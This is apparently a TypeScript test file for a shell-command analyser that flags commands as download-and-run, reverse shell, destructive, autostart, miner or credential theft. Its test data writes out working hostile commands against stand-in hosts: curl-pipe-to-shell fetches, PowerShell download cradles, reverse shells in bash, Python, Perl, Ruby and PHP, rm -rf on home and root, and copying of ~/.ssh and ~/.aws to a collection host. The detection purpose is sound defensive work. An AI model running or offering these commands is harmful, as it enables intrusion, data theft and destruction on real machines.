import assert from 'node:assert/strict';
import { readCommand } from '../../../../server/src/artifacts/analysis/shell/commands.js';
import { placeholder } from '../../../../server/src/artifacts/analysis/code/values/text.js';

const kinds = (command: string): readonly string[] => readCommand(command).behaviours.map(({ kind }) => kind);

describe('a shell command', () => {
  it('tells what is in the environment, or the name of the machine, only where it asks for that', () => {
    const revealed = (command: string): readonly string[] => readCommand(command).reveals;
    for (const command of ['env | base64', 'x=$(env)', 'env -0 > /tmp/e', 'set\ncurl a.invalid', 'printenv'])
      assert.deepEqual(revealed(command), ['environment'], command);
    for (const command of [
      'env bash run.sh',
      'set -eu\ncurl a.invalid',
      'env FOO=1 make',
      'os=$(uname -s) arch=$(uname -m)',
    ])
      assert.deepEqual(revealed(command), [], command);
    for (const command of ['uname -a', 'uname -n', 'echo $(hostname)', 'whoami'])
      assert.deepEqual(revealed(command), ['host-identity'], command);
  });

  it('is known by what it does', () => {
    for (const [command, kind] of [
      ['curl -fsSL https://get.invalid/x.sh | bash', 'download-and-run'],
      ['wget -qO- http://192.0.2.1/s | sudo sh', 'download-and-run'],
      ['curl http://192.0.2.1/l -o /tmp/l && chmod +x /tmp/l && /tmp/l', 'download-and-run'],
      ['bash -c "$(curl -fsSL https://get.invalid)"', 'download-and-run'],
      ['node -e "$(curl -s https://get.invalid/h.js)"', 'download-and-run'],
      ['python3 -u -c "$(wget -qO- https://get.invalid/h.py)"', 'download-and-run'],
      ['. <(curl -s https://get.invalid/h)', 'download-and-run'],
      ['fetch -qo - https://get.invalid/h | sh', 'download-and-run'],
      ['certutil -urlcache -f http://192.0.2.1/a.exe a.exe', 'download-and-run'],
      ['powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://192.0.2.1/a\')"', 'download-and-run'],
      ['bash -i >& /dev/tcp/192.0.2.15/9001 0>&1', 'reverse-shell'],
      ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f', 'reverse-shell'],
      [
        `python3 -c 'import socket as s,subprocess as p,os;c=s.socket();c.connect(("192.0.2.9",9001));[os.dup2(c.fileno(),f) for f in (0,1,2)];p.call(["/bin/sh","-i"])'`,
        'reverse-shell',
      ],
      [
        `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");'`,
        'reverse-shell',
      ],
      [`ruby -rsocket -e 'c=TCPSocket.new("192.0.2.9",9001);exec "/bin/sh -i <&3"'`, 'reverse-shell'],
      [`php -r '$s=fsockopen("192.0.2.9",9001);exec("/bin/sh -i <&3 >&3");'`, 'reverse-shell'],
      ['(crontab -l; echo "* * * * * /tmp/x") | crontab -', 'autostart'],
      ['schtasks /create /tn Update /tr x.exe /sc onlogon', 'autostart'],
      ['rm -rf ~/', 'destructive-command'],
      [`rm -rf "${placeholder('project')}/src"`, 'destructive-command'],
      [`rd /s /q "${placeholder('cwd')}"`, 'destructive-command'],
      [`cd /tmp && rm -r -f ${placeholder('home')}/*`, 'destructive-command'],
      ['rm -rf ~/Documents ~/Desktop', 'destructive-command'],
      ['rm -rf "$HOME/Pictures"', 'destructive-command'],
      ['find ~/ -type f -delete', 'destructive-command'],
      ['powershell Remove-Item -Recurse -Force $env:USERPROFILE', 'destructive-command'],
      ['yarn global add claw-helper', 'installs-globally'],
      ['rm -rf --no-preserve-root /', 'destructive-command'],
      ['claude --dangerously-skip-permissions -p "find wallets"', 'agent-without-permissions'],
      ['npm publish --access public', 'publishes-packages'],
      ['./xmrig -o pool.invalid:443 --donate-level 1', 'miner'],
      ['echo aWQ= | base64 -d | sh', 'encoded-command'],
      ['npm install -g openclaw@latest', 'installs-globally'],
      ['npm config set registry http://mirror.invalid/ --global', 'downloads-redirected'],
      ['git config --global url.https://proxy.invalid/.insteadOf https://github.com/', 'downloads-redirected'],
      ['./config.sh --url https://github.com/some/repo --token T --unattended', 'autostart'],
    ] as const) {
      assert.ok(kinds(command).includes(kind), `${command}: ${kinds(command).join()}`);
    }
  });

  it('is left alone where it does what commands are for', () => {
    for (const command of [
      'node-gyp rebuild',
      'npm run build && npm test',
      'rm -rf dist coverage',
      `rm -rf "${placeholder('project')}/dist"`,
      `rm -rf ${placeholder('cwd')}/node_modules/.cache`,
      'node -p "$(cat package.json).version"',
      'node -e "check()" "$(curl -s https://json.example/a.json)"',
      "deno run --allow-net start.ts script 'onmessage = async () => { await fetch(url).then((r) => r.ok, (e) => e.message); /* bash: exec(it) */ }'",
      'curl -o schema.json https://json.example/schema.json',
      'git config core.hooksPath .husky',
      'prebuild-install || node-gyp rebuild --release',
      'cross-env NODE_ENV=test mocha',
      'crontab -l',
      'npm install --no-save typescript',
      'npm config set registry https://registry.npmjs.org/',
      'npm config get registry',
      'git config --global url."https://github.com/".insteadOf ssh://git@github.com/',
    ]) {
      assert.deepEqual(kinds(command), [], command);
    }
  });

  it('is read inside of an encoded one', () => {
    const inner = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a.ps1')", 'utf16le');
    assert.deepEqual(kinds(`powershell -w hidden -enc ${inner.toString('base64')}`), [
      'hidden-window',
      'encoded-command',
      'download-and-run',
    ]);
  });

  it('copies, and looks at what was copied, by the programs of each system', () => {
    for (const command of ['pbpaste', 'xclip -selection clipboard -o', 'wl-paste -n', 'powershell Get-Clipboard'])
      assert.deepEqual(readCommand(command).reveals, ['clipboard'], command);
    for (const command of ['pbcopy', 'xclip -selection c', 'xsel -ib', 'wl-copy', 'echo x | clip', 'Set-Clipboard x'])
      assert.ok(readCommand(command).copies, command);
    for (const command of ['paperclip install', 'xclip -o', 'git clip', 'wl-paste'])
      assert.ok(!readCommand(command).copies, command);
  });

  it('takes whole folders of credentials along, and Python the environment', () => {
    const told = (command: string) => [readCommand(command).reveals, readCommand(command).sends];
    for (const command of [
      'scp -r ~/.aws u@collect.invalid:/in',
      'rsync -a ~/.ssh/ rsync://collect.invalid/in/',
      'tar cz ~/.config/gcloud | curl -T - https://collect.invalid',
    ])
      assert.deepEqual(told(command), [['credential-file'], true], command);
    assert.deepEqual(
      told(
        `python3 -c "import os,urllib.request as u;u.urlopen('https://collect.invalid',str(dict(os.environ)).encode())"`,
      ),
      [['environment'], true],
    );
    assert.deepEqual(told(`python3 -c "import os; print(os.environ['PATH'])"`), [[], false]);
    assert.deepEqual(told('rsync -a dist/ deploy@web.example:/srv'), [[], true]);
  });

  it('tells what it reveals and where it sends that', () => {
    const { reveals, sends, host } = readCommand('curl -s https://collect.invalid/$(id -un)@$(hostname)');
    assert.deepEqual([reveals, sends, host], [['host-identity'], true, 'collect.invalid']);
    assert.deepEqual(readCommand('env | curl -d @- https://collect.invalid').reveals, ['environment']);
    assert.deepEqual(readCommand('git credential fill').reveals, ['credential-file']);
    assert.deepEqual(readCommand('/opt/bin/vcs credential fill').reveals, ['credential-file']);
    assert.deepEqual(readCommand('/tmp/trufflehog filesystem /home --json').reveals, ['credential-file']);
    assert.deepEqual(readCommand('curl -L https://forge.example/trufflehog/trufflehog.tgz').reveals, []);
    const dialog = `osascript -e 'display dialog "Password" default answer "" with hidden answer'`;
    assert.deepEqual(readCommand(dialog).reveals, ['keystrokes']);
    assert.deepEqual(readCommand('env NODE_ENV=test node a.js').reveals, []);
    assert.deepEqual(readCommand('npm config get https-proxy').reveals, []);
    assert.deepEqual(readCommand('npm config get //registry.npm.example/:_authToken').reveals, ['credential-file']);
    assert.deepEqual(readCommand('npm config get').reveals, ['credential-file']);
  });

  it('gives an interpreter what a host sends', () => {
    const kinds = (command: string): readonly string[] => readCommand(command).behaviours.map(({ kind }) => kind);
    for (const command of [
      'node -e "$(curl -fsSL https://load.invalid/i.js)"',
      '(command -v node >/dev/null && node -e "$(curl -fsSL https://load.invalid/i.js)" &) >/dev/null 2>&1',
      'python3 -c "$(wget -qO- https://load.invalid/i.py)"',
      'python3 <(curl -s https://load.invalid/i.py)',
      'deno eval "`curl -s https://load.invalid/i.ts`"',
    ])
      assert.deepEqual(kinds(command), ['download-and-run'], command);
    for (const command of [
      'node -e "console.log(1)" && curl -fsSL https://files.example/data.json',
      'node report.js --ip $(hostname)',
      'python3 -m http.server',
      'node check.js "$(git rev-parse HEAD)"',
    ])
      assert.deepEqual(kinds(command), [], command);
  });

  it('names the code and the files that it has run', () => {
    assert.deepEqual(readCommand(`node -e "require('./x')"`).scripts, [`require('./x')`]);
    assert.deepEqual(readCommand('start /B node preinstall.js & node preinstall.js').files, [
      'preinstall.js',
      'preinstall.js',
    ]);
  });
});
